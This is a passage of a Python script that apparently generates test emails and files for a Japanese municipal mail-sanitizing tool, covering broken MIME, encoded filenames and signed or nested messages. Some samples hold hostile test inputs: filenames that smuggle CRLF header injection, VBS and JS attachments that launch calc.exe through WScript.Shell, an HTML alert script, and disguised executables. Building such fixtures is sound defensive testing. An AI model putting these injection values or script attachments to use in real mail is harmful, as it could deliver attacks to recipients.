            "From: " + addr("情報政策課", "jouhou@city.example.jp") + CRLF +
            "To: soumu@city.example.jp" + CRLF +
            "Subject: =?UTF-8?B?" + b64(CRLF_SUBJECT.encode("utf-8")) + "?=" + CRLF +
            "Date: Mon, 7 Oct 2024 12:00:00 +0900" + CRLF +
            "Message-ID: <crlf-filename.20241007@example.jp>" + CRLF)
    parts = [
        text_part_jis("ファイル名に改行を含む添付の試験です。\n"),
        attachment("filename*=UTF-8''" + pct(b"a.txt\r\nX-Evil: 1"), b"first harmless text\r\n", "text/plain"),
        attachment('filename="=?UTF-8?B?%s?="' % b64(b"b.txt\r\nX-Evil2: 2\r\n\r\n<html>"), b"second harmless text\r\n",
                   "text/plain"),
    ]
    return multipart_mixed(head, "=_mukaika_crlf_004", parts)


BROKEN_BODY_MARKER = "本文は正常に読めるはずです。"
BROKEN_LAST = ("last.txt", "最後の添付ファイルです。終わりの区切りがありません。\r\n")
BROKEN_BAD_B64_TEXT = "data file with damaged base64\r\n"


@sample("broken-mime.eml")
def broken_mime():
    boundary = "==BROKEN_BOUNDARY_005=="
    bad_b64 = b64(BROKEN_BAD_B64_TEXT.encode("ascii"))
    bad_b64 = bad_b64[:8] + "!!*#" + bad_b64[8:20] + "\r\n%%%\r\n" + bad_b64[20:-2]  # junk and a lost tail
    out = (TRACE_HEADERS +
           "From: " + addr("障害 試験", "broken@example.jp") + CRLF +
           "To: soumu@city.example.jp" + CRLF +
           "Subject: =?ISO-2022-JP?B?GyRCJDMkcyRLJEEkTxsoQg" + CRLF +  # encoded word never closed
           "Date: Tue, 8 Oct 2024 09:00:00 +0900" + CRLF +
           "Message-ID: <broken-mime.20241008@example.jp>" + CRLF +
           "MIME-Version: 1.0" + CRLF +
           "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"" + CRLF + CRLF +
           "--" + boundary + CRLF +
           "Content-Type: text/plain; charset=iso-2022-jp" + CRLF + CRLF).encode("ascii")
    out += iso2022jp(BROKEN_BODY_MARKER + "\r\n区切り行の不備や壊れた base64 を含むメールです。\r\n")
    out += ("--" + boundary + CRLF +
            "Content-Type: text/plain; charset=us-ascii" + CRLF +
            "this header line has no colon and is garbage" + CRLF +
            "Content-Disposition: attachment; filename=\"garbage-header.txt\"" + CRLF + CRLF +
            "text after a garbage header line" + CRLF +
            "--" + boundary + CRLF +
            "Content-Type: text/plain; name=\"data.txt\"" + CRLF +
            "Content-Disposition: attachment; filename=\"data.txt\"" + CRLF +
            "Content-Transfer-Encoding: base64" + CRLF + CRLF +
            bad_b64 + CRLF +
            "--" + boundary + CRLF +
            "Content-Type: text/plain; charset=utf-8" + CRLF +
            "Content-Disposition: attachment; filename=\"" + BROKEN_LAST[0] + "\"" + CRLF +
            "Content-Transfer-Encoding: base64" + CRLF + CRLF).encode("ascii")
    out += b64_lines(BROKEN_LAST[1].encode("utf-8")).encode("ascii")
    # no closing boundary, and the file ends without a final line break
    out += b"\r\n--" + boundary.encode("ascii")[:-3]
    return out


@sample("nested-rfc822.eml")
def nested_rfc822():
    name = "nested-rfc822.eml"
    inner = NESTED_INNER
    inner_head = ("Received: from inner.example.jp by mx.example.jp; Mon, 7 Oct 2024 09:15:02 +0900" + CRLF +
                  "From: " + addr(*inner["from"]) + CRLF +
                  "To: " + addr("霞市 総務課", "soumu@city.example.jp") + CRLF +
                  "Subject: " + ew(inner["subject"]) + CRLF +
                  "Date: " + inner["date"] + CRLF +
                  "Message-ID: <inner.20241007.091500@sakura-npo.example.jp>" + CRLF)
    inner_parts = [
        text_part_jis("\n".join(inner["body"]) + "\n"),
        attachment('filename="%s"' % ew(inner["text_name"], chunk=40), cp932(inner["text_content"]),
                   "text/plain; charset=Shift_JIS"),
        attachment("filename*=UTF-8''" + pct(inner["vbs_name"].encode("utf-8")),
                   b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n', "text/vbscript"),
    ]
    inner_bytes = multipart_mixed(inner_head, "=_inner_boundary_006", inner_parts, preamble=False)
    head = (TRACE_HEADERS +
            "From: " + addr(*FROM[name]) + CRLF +
            "To: " + addr("霞市 企画課", "kikaku@city.example.jp") + CRLF +
            "Subject: " + ew(SUBJECTS[name]) + CRLF +
            "Date: Mon, 7 Oct 2024 13:40:00 +0900" + CRLF +
            "Message-ID: <nested-rfc822.20241007@city.example.jp>" + CRLF)
    parts = [
        text_part_jis("\n".join(BODY_LINES[name]) + "\n"),
        ("Content-Type: message/rfc822" + CRLF +
         "Content-Disposition: attachment; filename=\"forwarded.eml\"" + CRLF, inner_bytes),
    ]
    return multipart_mixed(head, "=_outer_boundary_006", parts)


@sample("rfc2231-names.eml")
def rfc2231_names():
    name = "rfc2231-names.eml"
    A, B, C, D, E, F, G = [n for n, _ in RFC2231_ATTACHMENTS]
    contents = [c.encode("ascii") for _, c in RFC2231_ATTACHMENTS]
    parts = [text_part_jis("会議資料を送付します。ファイル名の表記を確認してください。\n")]

    # A: ISO-2022-JP, language tag, three continuations cut inside the escape sequences.
    enc = pct(iso2022jp(A))
    cuts = [0, 7, 31, len(enc)]
    segs = [enc[cuts[i]:cuts[i + 1]] for i in range(3)]
    # Never cut inside a %XX triplet.
    for s in segs:
        assert "%" not in s[-2:], segs
    a_value = (";" + CRLF + "\t").join(
        ("filename*%d*=" % i) + ("ISO-2022-JP'ja'" if i == 0 else "") + s for i, s in enumerate(segs))
    parts.append(attachment(a_value, contents[0], "text/plain; charset=us-ascii"))

    # B: Shift_JIS (read as CP932), single parameter.
    parts.append(attachment("filename*=Shift_JIS''" + pct(cp932(B)), contents[1], "text/plain; charset=us-ascii"))

    # C: UTF-8 split in the middle of a character, then a plain (unencoded) segment.
    head_c = "令和6年度_予算要求資料_最終版".encode("utf-8")
    tail_c = "_v2.txt"
    assert C == head_c.decode("utf-8") + tail_c
    cut = 5  # inside the second character
    c_value = ("filename*0*=UTF-8''" + pct(head_c[:cut]) + ";" + CRLF + "\tfilename*1*=" + pct(head_c[cut:]) + ";" +
               CRLF + "\tfilename*2=\"" + tail_c + "\"")
    parts.append(attachment(c_value, contents[2], "text/plain; charset=us-ascii"))

    # D: RFC 2047 inside quotes (what Outlook and most Japanese mailers write).
    parts.append(attachment('filename="%s"' % ew(D, chunk=40), contents[3], "text/plain; charset=us-ascii"))

    # E: RFC 2047 UTF-8, one character split across two encoded words.
    e_bytes = E.encode("utf-8")
    e_value = 'filename="=?UTF-8?B?%s?= =?UTF-8?B?%s?="' % (b64(e_bytes[:4]), b64(e_bytes[4:]))
    parts.append(attachment(e_value, contents[4], "text/plain; charset=us-ascii"))

    # F: only Content-Type name* (RFC 2231), no Content-Disposition.
    parts.append(("Content-Type: text/plain; charset=us-ascii;" + CRLF + "\tname*=UTF-8''" + pct(F.encode("utf-8")) +
                  CRLF + "Content-Transfer-Encoding: base64" + CRLF, b64_lines(contents[5]).encode("ascii")))

    # G: raw 8-bit CP932 inside quotes (no encoding at all).
    g_headers = ("Content-Type: text/plain; charset=us-ascii" + CRLF + "Content-Disposition: attachment; filename=\"").encode(
        "ascii") + cp932(G) + b"\"\r\nContent-Transfer-Encoding: base64\r\n"
    head = common_head(name)
    out = multipart_mixed(head, "=_mukaika_names_007", parts + [("@@G@@", b64_lines(contents[6]).encode("ascii"))])
    out = out.replace(b"@@G@@", g_headers)  # the raw 8-bit headers
    return out


@sample("csv-cp932.eml")
def csv_cp932():
    name = "csv-cp932.eml"
    csv1 = cp932("\r\n".join(CSV_ROWS) + "\r\n")
    csv2 = cp932("\r\n".join(CSV2_ROWS) + "\r\n")
    parts = [
        text_part_jis("霞市 人事課 御中\n\n職員名簿（CSV形式）を送付します。\n"),
        attachment('filename="%s"' % ew("職員名簿.csv", chunk=40), csv1,
                   "application/vnd.ms-excel;" + CRLF + "\tname=\"%s\"" % ew("職員名簿.csv", chunk=40)),
        attachment("filename*=Shift_JIS''" + pct(cp932("施設一覧.csv")), csv2, "text/csv; charset=Shift_JIS"),
    ]
    return multipart_mixed(common_head(name), "=_mukaika_csv_008", parts)


SIGNED_KEPT = ("通知書.txt", "入札公告 第12号\r\n公告日：令和6年10月7日\r\n")


@sample("signed.eml")
def signed():
    name = "signed.eml"
    inner_boundary = "=_mukaika_signed_inner_009"
    outer = "=_mukaika_signed_009"
    body_headers, body = text_part_jis("霞市 契約課 御中\n\n入札公告を送付します。本メールには電子署名が付いています。\n")
    att_headers, att = attachment("filename*=UTF-8''" + pct(SIGNED_KEPT[0].encode("utf-8")),
                                  SIGNED_KEPT[1].encode("utf-8"), "text/plain; charset=utf-8")
    signed_part = (("Content-Type: multipart/mixed; boundary=\"" + inner_boundary + "\"" + CRLF + CRLF +
                    "--" + inner_boundary + CRLF + body_headers + CRLF).encode("ascii") + body +
                   ("--" + inner_boundary + CRLF + att_headers + CRLF).encode("ascii") + att +
                   ("--" + inner_boundary + "--" + CRLF).encode("ascii"))
    signature = bytes.fromhex("3082") + pseudo_random(200, b"dummy pkcs7 signature")
    out = (common_head(name, "霞市 契約課", "keiyaku@city.example.jp") + "MIME-Version: 1.0" + CRLF +
           "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256;" + CRLF +
           "\tboundary=\"" + outer + "\"" + CRLF + CRLF +
           "This is an S/MIME signed message" + CRLF + CRLF +
           "--" + outer + CRLF).encode("ascii")
    out += signed_part
    out += ("--" + outer + CRLF +
            "Content-Type: application/pkcs7-signature; name=\"smime.p7s\"" + CRLF +
            "Content-Transfer-Encoding: base64" + CRLF +
            "Content-Disposition: attachment; filename=\"smime.p7s\"" + CRLF + CRLF +
            b64_lines(signature) + CRLF +
            "--" + outer + "--" + CRLF).encode("ascii")
    return out


def many_payloads():
    return {
        "setup.exe": (MINIMAL_PE, "application/octet-stream"),
        "請求書.js": (b"var sh = new ActiveXObject('WScript.Shell');\r\nsh.Run('calc.exe');\r\n", "text/plain"),
        "資料.lnk": (tiny_lnk(), "application/octet-stream"),
        "ディスク.iso": (pseudo_random(4096, b"iso"), "application/octet-stream"),
        "報告書.docx": (tiny_docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        "資料一式.docx": (fixed_zip([("readme.txt", b"plain zip, not a document\r\n")]),
                       "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        "写真.png": (tiny_png(), "image/png"),
        "案内.pdf": (tiny_pdf(), "application/pdf"),
        "ページ.html": (b"<html><body><p>page</p><script>alert(1)</script></body></html>\r\n", "text/html"),
        "データ.bin": (pseudo_random(1024, b"unknown data"), "application/octet-stream"),
        "議事録.txt": (MANY_TEXT.encode("utf-8"), "text/plain; charset=utf-8"),
    }


@sample("many-attachments.eml")
def many_attachments():
    name = "many-attachments.eml"
    payloads = many_payloads()
    parts = [text_part_jis("各種資料を送付します。\n")]
    for fname, *_ in MANY_ATTACHMENTS:
        data, ctype = payloads[fname]
        parts.append(attachment("filename*=UTF-8''" + pct(fname.encode("utf-8")), data, ctype))
    return multipart_mixed(common_head(name), "=_mukaika_many_010", parts)


@sample("sp-prefix-body.eml")
def sp_prefix_body():
    name = "sp-prefix-body.eml"
    body = "\r\n".join(BODY_LINES[name] + ["", "以上"]) + "\r\n"
    head = (TRACE_HEADERS +
            "From: " + addr("霞市 企画課", "kikaku@city.example.jp") + CRLF +
            "To: all-staff@city.example.jp" + CRLF +
            "Subject: " + ew(SUBJECTS[name]) + CRLF +
            "Date: Wed, 9 Oct 2024 09:00:00 +0900" + CRLF +
            "Message-ID: <sp-prefix-body.20241009@city.example.jp>" + CRLF +
            "MIME-Version: 1.0" + CRLF +
            "Content-Type: text/plain; charset=ISO-2022-JP" + CRLF +
            "Content-Transfer-Encoding: 7bit" + CRLF + CRLF)
    return head.encode("ascii") + iso2022jp(body)


# ---------------------------------------------------------------------------
# samples/files
# ---------------------------------------------------------------------------

FILE_TEXT_CP932 = "霞市 総務課 メモ\r\n①㈱髙橋建設 打合せ 10月1日～10月3日\r\nﾊﾝｶｸｶﾅ\r\n"
FILE_CSV_UTF8 = "番号,氏名\r\n1,髙橋\r\n2,山﨑\r\n"
FILE_INI = "[server]\r\nhost = 192.0.2.10\r\nport = 8080\r\n"
FILE_JS = "var sh = new ActiveXObject('WScript.Shell');\r\nsh.Run('calc.exe');\r\n"
FILE_README = "This is a plain ASCII text file.\r\nNothing to change here.\r\n"
FILE_HTML = "<html><body><p>お知らせ</p><script>alert(1)</script></body></html>\r\n"

FILES = {
    "cp932-memo.txt": lambda: cp932(FILE_TEXT_CP932),
    "meibo-utf8.csv": lambda: FILE_CSV_UTF8.encode("utf-8"),
    "settings.ini": lambda: FILE_INI.encode("ascii"),
    "script.js": lambda: FILE_JS.encode("ascii"),
    "readme.txt": lambda: FILE_README.encode("ascii"),
    "notice.html": lambda: FILE_HTML.encode("utf-8"),
}


def main():
    for name, fn in sorted(SAMPLES.items()):
        data = fn()
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)
    os.makedirs(FILES_DIR, exist_ok=True)
    for name, fn in sorted(FILES.items()):
        with open(os.path.join(FILES_DIR, name), "wb") as f:
            f.write(fn())
    print("wrote %d mails to %s and %d files to %s" % (len(SAMPLES), HERE, len(FILES), FILES_DIR))


if __name__ == "__main__":
    sys.exit(main())
